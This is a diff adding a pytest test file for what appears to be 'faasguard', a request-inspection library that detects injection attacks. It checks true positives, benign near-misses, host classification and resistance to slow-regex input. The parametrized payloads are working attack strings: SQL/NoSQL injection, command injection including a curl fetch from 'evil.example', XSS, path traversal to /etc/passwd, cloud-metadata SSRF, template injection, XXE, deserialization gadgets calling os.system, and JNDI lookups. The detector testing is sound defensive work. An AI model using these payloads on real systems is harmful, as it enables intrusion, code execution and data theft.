@@ -1,0 +1,127 @@
+"""Each detector: true positives (exact category and rule id) and near-miss benign strings."""
+
+import time
+
+import pytest
+
+from faasguard.guard import detect
+from faasguard.guard.detectors import DETECTORS
+from faasguard.guard.detectors.ssrf import classify_host, parse_ip
+
+
+def _ids(text: str) -> set[tuple[str, str]]:
+    return {(d.category, d.rule_id) for d in detect(text)}
+
+
+@pytest.mark.parametrize(("payload", "expected"), [
+    ("' or 'a'='a", ("sqli", "FG-SQLI-003")),
+    ("admin'--", ("sqli", "FG-SQLI-011")),
+    ("1 union select username, password from users", ("sqli", "FG-SQLI-001")),
+    ("1/**/UNION/**/SELECT/**/1,2", ("sqli", "FG-SQLI-001")),
+    ("1; drop table users", ("sqli", "FG-SQLI-004")),
+    ("1 and sleep(5)", ("sqli", "FG-SQLI-005")),
+    (" ORDER BY 12#", ("sqli", "FG-SQLI-028")),
+    ("%27%20or%201%3D1", ("sqli", "FG-SQLI-003")),
+    ("'; exec master..xp_cmdshell 'dir'--", ("sqli", "FG-SQLI-019")),
+    ('{"username": {"$ne": null}, "password": {"$ne": null}}', ("nosqli", "FG-NOSQL-001")),
+    ("username[$ne]=toto&password[$regex]=.*", ("nosqli", "FG-NOSQL-001")),
+    ("';return true;var x='", ("nosqli", "FG-NOSQL-002")),
+    ("; cat /etc/passwd", ("cmdi", "FG-CMDI-001")),
+    ("| whoami", ("cmdi", "FG-CMDI-001")),
+    ("a;id|", ("cmdi", "FG-CMDI-001")),
+    ("w'h'o'am'i", ("cmdi", "FG-CMDI-001")),
+    ("$(curl http://evil.example/x.sh)", ("cmdi", "FG-CMDI-001")),
+    ("& ping -n 30 127.0.0.1 &", ("cmdi", "FG-CMDI-001")),
+    ("<script>alert(1)</script>", ("xss", "FG-XSS-001")),
+    ("<img src=x onerror=alert(1)>", ("xss", "FG-XSS-002")),
+    ('<a href="javascript:alert(1)">x</a>', ("xss", "FG-XSS-003")),
+    ("<IMG SRC=jAvAsCrIpT:alert('XSS')>", ("xss", "FG-XSS-003")),
+    ("../../../../etc/passwd", ("path_traversal", "FG-PATH-001")),
+    ("..%2f..%2f..%2fetc%2fpasswd", ("path_traversal", "FG-PATH-001")),
+    ("%252e%252e%252fetc%252fpasswd", ("path_traversal", "FG-PATH-001")),
+    ("%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", ("path_traversal", "FG-PATH-002")),
+    ("..%u2215..%u2215boot.ini", ("path_traversal", "FG-PATH-001")),
+    ("..\\..\\windows\\win.ini", ("path_traversal", "FG-PATH-001")),
+    ("http://169.254.169.254/latest/meta-data/", ("ssrf", "FG-SSRF-001")),
+    ("http://2852039166/", ("ssrf", "FG-SSRF-001")),
+    ("http://0xA9FEA9FE/", ("ssrf", "FG-SSRF-001")),
+    ("http://0251.0376.0251.0376/", ("ssrf", "FG-SSRF-001")),
+    ("http://[fd00:ec2::254]/latest/", ("ssrf", "FG-SSRF-001")),
+    ("http://[::ffff:a9fe:a9fe]/", ("ssrf", "FG-SSRF-001")),
+    ("http://169.254.169.254.nip.io/", ("ssrf", "FG-SSRF-001")),
+    ("http://localhost:8080/admin", ("ssrf", "FG-SSRF-001")),
+    ("dict://example.org:11211/stat", ("ssrf", "FG-SSRF-002")),
+    ("{{7*7}}", ("ssti", "FG-SSTI-001")),
+    ("{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}", ("ssti", "FG-SSTI-001")),
+    ('<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
+     ("xxe", "FG-XXE-001")),
+    ("cos\nsystem\n(S'id'\ntR.", ("deserialization", "FG-DESER-001")),
+    ("gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==", ("deserialization", "FG-DESER-001")),
+    ('{"py/object": "os.system"}', ("deserialization", "FG-DESER-002")),
+    ("!!python/object/apply:os.system ['id']", ("deserialization", "FG-DESER-003")),
+    ("rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ", ("deserialization", "FG-DESER-004")),
+    ('O:8:"stdClass":1:{s:1:"a";i:2;}', ("deserialization", "FG-DESER-005")),
+    ("_$$ND_FUNC$$_function(){require('child_process').exec('id')}()", ("deserialization", "FG-DESER-007")),
+    ("${jndi:ldap://evil.example/a}", ("jndi", "FG-JNDI-001")),
+    ("${${lower:j}ndi:${lower:l}dap://x/a}", ("jndi", "FG-JNDI-001")),
+    ("${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}", ("jndi", "FG-JNDI-001")),
+])
+def test_true_positive(payload: str, expected: tuple[str, str]) -> None:
+    assert expected in _ids(payload)
+
+
+@pytest.mark.parametrize("text", [
+    "O'Brien", "Please select one item from the list", "It's 5 o'clock; dinner is at 6",
+    "my.file.name.v2.tar.gz", "https://www.example.com/path?q=1&x=2", "Tom & Jerry", "Wait... what?",
+    "I'd say 1 or 2 items", 'He said "hello" and left', "rock 'n' roll", "SELECT your seat from the map",
+    "The price is $5 or less", "C:\\Users\\Bob\\Documents\\report.docx", "10.0.0.5", "{{ name }}",
+    "${AWS::Region}", "a < b and c > d", "Use `git status` to check", "uploads/2024/report (final).pdf",
+    "1950 or 1960", "Q&A: why?", "#1 best seller", "cat food; dog food", "echo chamber",
+    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
+    "https://api.stripe.com/v1/charges", "7\" #2 CIRCULAR NEEDLE", "4'+X+4'+WOOD",
+    "Redirected to /dev/null, oh no, it's full...", "id",
+])
+def test_near_miss_benign(text: str) -> None:
+    assert detect(text) == []
+
+
+def test_detection_fields() -> None:
+    [d] = detect("<script>alert(1)</script>")
+    assert (d.category, d.rule_id, d.field, d.severity) == ("xss", "FG-XSS-001", "", "high")
+    assert d.excerpt == "<script>alert(1)</script>"
+
+
+@pytest.mark.parametrize(("host", "reason"), [
+    ("169.254.169.254", "a cloud metadata endpoint"),
+    ("2852039166", "a cloud metadata endpoint"),
+    ("0xa9.0xfe.0xa9.0xfe", "a cloud metadata endpoint"),
+    ("0177.1", "loopback"),
+    ("[::1]", "an internal host name"),
+    ("10.1.2.3", "a private address"),
+    ("425.510.425.510", "an obfuscated numeric address"),
+    ("example.com", None),
+    ("8.8.8.8", None),
+])
+def test_classify_host(host: str, reason: str | None) -> None:
+    assert classify_host(host) == reason
+
+
+def test_parse_ip_short_forms() -> None:
+    assert str(parse_ip("127.1")) == "127.0.0.1"
+    assert str(parse_ip("0x7f000001")) == "127.0.0.1"
+    assert parse_ip("1.2.3.4.5") is None
+
+
+@pytest.mark.parametrize("pattern", [
+    "'" * 20000, "(" * 20000, "<" * 20000 + "a", "%" * 20000, "../" * 8000, "${" * 10000, "{{" * 10000,
+    "a" * 30000 + "'", "/*" * 10000, "\\" * 20000, "&#" * 10000, "; " * 10000, "http://" + "a@" * 10000,
+    "1 or " * 5000, "<a " + "onx=1 " * 5000, "`" * 20000, "$(" * 10000, "O:1:\"" * 5000,
+])
+def test_linear_time_on_adversarial_input(pattern: str) -> None:
+    start = time.perf_counter()
+    for name, detector in DETECTORS.items():
+        t0 = time.perf_counter()
+        detector(pattern)
+        assert time.perf_counter() - t0 < 1.0, name
+    detect(pattern)
+    assert time.perf_counter() - start < 3.0
